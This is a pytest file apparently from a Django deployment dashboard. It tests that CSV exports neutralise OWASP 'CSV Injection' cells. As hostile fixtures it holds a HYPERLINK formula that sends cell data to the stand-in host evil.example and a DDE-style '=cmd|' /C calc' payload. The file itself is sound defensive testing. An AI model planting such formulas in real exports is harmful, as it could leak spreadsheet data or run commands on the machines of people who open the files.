"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP "CSV
Injection"): a text cell starting with =, +, -, @, tab or carriage return gets a leading
single quote. Stack names, event reasons, physical ids and actors come from buckets and
people, so each export is tested with hostile values in them.

Mallory is an admin on account 111111111111 (prod) and sees every export of it."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from stacks import audit
from stacks.models import DeploymentRun, Membership, Role, SecretFinding
from tests.views.conftest import make_account, make_stack, make_user
from tests.views.test_events_pages import make_run

pytestmark = pytest.mark.django_db

A = "111111111111"
RUN = "20261129T122811123Z-f37f3ced"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(1,2)", "\tcmd", "\r=1"]


def table(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def assert_inert(rows: list[dict[str, str]]) -> None:
    """No cell of the export starts a formula."""
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (row, value)


@pytest.fixture
def prod(db):
    return make_account(A, "prod")


@pytest.fixture
def mallory_client(client, prod):
    mallory = make_user("mallory")
    Membership.objects.create(user=mallory, account=prod, role=Role.ADMIN)
    client.force_login(mallory)
    return client


def test_it_neutralises_exactly_the_owasp_leading_characters() -> None:
    from stacks.views.exports import neutralise

    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralise("plain") == "plain"
    assert neutralise("a=b") == "a=b"  # only the first character matters
    assert neutralise("") == ""


def test_it_neutralises_the_runs_csv(mallory_client, prod):
    run = make_run(prod, "=cmd|' /C calc'!A0", RUN, command="-deploy")
    DeploymentRun.objects.filter(pk=run.pk).update(cdkd_version="@0.284")

    rows = table(mallory_client.get(reverse("events"), {"format": "csv"}))

    assert rows[0]["stackName"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["command"] == "'-deploy" and rows[0]["cdkdVersion"] == "'@0.284"
    assert_inert(rows)


def test_it_neutralises_a_runs_events_csv(mallory_client, prod):
    events = [
        {
            "timestamp": "2026-11-29T12:28:11.152Z",
            "eventType": "RESOURCE_FAILED",
            "stackName": "web",
            "operation": "DELETE",
            "logicalId": "+Bucket",
            "resourceType": "AWS::S3::Bucket",
            "physicalId": "@evil",
            "reason": FORMULA,
            "durationMs": -5,
        }
    ]
    make_run(prod, "web", RUN, result="FAILED", events=events)

    url = reverse("event_run", args=[A, "us-east-1", "web", RUN])
    rows = table(mallory_client.get(url, {"format": "csv"}))

    assert rows[0]["reason"] == "'" + FORMULA
    assert rows[0]["logicalId"] == "'+Bucket" and rows[0]["physicalId"] == "'@evil"
    assert rows[0]["durationMs"] == "-5"  # a number stays a number
    assert_inert([{k: v for k, v in r.items() if k != "durationMs"} for r in rows])


def test_it_neutralises_the_audit_csv(mallory_client, prod):
    audit.record("stack.viewed", actor="-mallory", account=prod, stack_name="=1+1", error="\tx", result="@r")

    rows = table(mallory_client.get(reverse("audit"), {"format": "csv"}))

    assert rows[0]["actor"] == "'-mallory" and rows[0]["stack"] == "'=1+1"
    assert rows[0]["error"] == "'\tx" and rows[0]["result"] == "'@r"
    assert_inert(rows)


def test_it_neutralises_the_secret_findings_csv(mallory_client, prod):
    make_stack(prod, "web")
    SecretFinding.objects.create(
        account=prod,
        stack_name="web",
        region="us-east-1",
        key="cdkd/web/us-east-1/state.json",
        key_kind="record",
        path=["outputs", "=Out"],
        source="+credential shape",
        whole=True,
    )

    rows = table(mallory_client.get(reverse("secrets"), {"format": "csv"}))

    assert rows[0]["source"] == "'+credential shape"
    assert_inert(rows)
